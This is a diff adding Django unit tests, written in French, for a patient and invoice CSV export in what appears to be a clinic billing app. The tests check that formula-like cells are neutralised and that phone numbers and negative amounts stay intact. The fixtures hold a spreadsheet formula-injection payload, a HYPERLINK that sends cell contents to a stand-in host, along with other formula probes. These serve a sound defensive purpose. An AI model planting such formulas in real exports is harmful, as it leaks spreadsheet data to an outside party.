@@ -0,0 +1,62 @@
+"""
+Tests de l'export CSV
+"""
+
+import csv
+from datetime import date
+from decimal import Decimal
+
+from django.contrib.auth import get_user_model
+from django.test import TestCase, override_settings
+
+from core.models import Consultation, Facture, Patient
+from core.services.export import SEPARATEUR, lignes_csv
+
+
+class TestExportCsv(TestCase):
+    """Tests de lignes_csv()"""
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.patient = Patient.objects.create(
+            nom='=HYPERLINK("http://exemple.invalid/?d="&A1;"Voir")', prenom='+Ali',
+            date_naissance=date(1980, 1, 1), sexe='M', telephone='0600000000', adresse='@SUM(1;1)',
+        )
+
+    def _lignes(self, nom):
+        contenu = ''.join(lignes_csv(nom))
+        self.assertTrue(contenu.startswith('\ufeff'))
+        return list(csv.reader(contenu[1:].splitlines(), delimiter=SEPARATEUR))
+
+    def test_formules_neutralisees(self):
+        entete, ligne = self._lignes('patients')
+        valeurs = dict(zip(entete, ligne))
+        self.assertEqual(valeurs['Nom'], '\'=HYPERLINK("http://exemple.invalid/?d="&A1;"Voir")')
+        self.assertEqual(valeurs['Prénom'], "'+Ali")
+        self.assertEqual(valeurs['Adresse'], "'@SUM(1;1)")
+        self.assertEqual(valeurs['Téléphone'], '0600000000')
+
+    def test_telephone_international_intact(self):
+        Patient.objects.filter(pk=self.patient.pk).update(telephone='+212 6 12-34-56 (78)', cin='-1+1')
+        entete, ligne = self._lignes('patients')
+        valeurs = dict(zip(entete, ligne))
+        self.assertEqual(valeurs['Téléphone'], '+212 6 12-34-56 (78)')
+        self.assertEqual(valeurs['CIN'], "'-1+1")
+
+    @override_settings(ROOT_URLCONF='core.urls_export')
+    def test_annee_invalide(self):
+        self.client.force_login(get_user_model().objects.create_user('comptable', password='comptable'))
+        for annee in ('0', '9999', '２０２４', 'deux'):
+            self.assertEqual(self.client.get('/patients.csv', {'annee': annee}).status_code, 400, annee)
+        self.assertEqual(self.client.get('/patients.csv', {'annee': '2024'}).status_code, 200)
+
+    def test_nombres_negatifs_intacts(self):
+        consultation = Consultation.objects.create(patient=self.patient, date_consultation='2024-03-15T10:00:00+01:00')
+        Facture.objects.create(
+            consultation=consultation, date_facture=date(2024, 3, 15), montant_ht=Decimal('-10.00'),
+            montant_tva=Decimal('0'), montant_total=Decimal('-10.00'), statut='brouillon',
+        )
+        entete, ligne = self._lignes('factures')
+        valeurs = dict(zip(entete, ligne))
+        self.assertEqual(valeurs['Montant TTC'], '-10,00')
+        self.assertEqual(valeurs['Nom'], '\'=HYPERLINK("http://exemple.invalid/?d="&A1;"Voir")')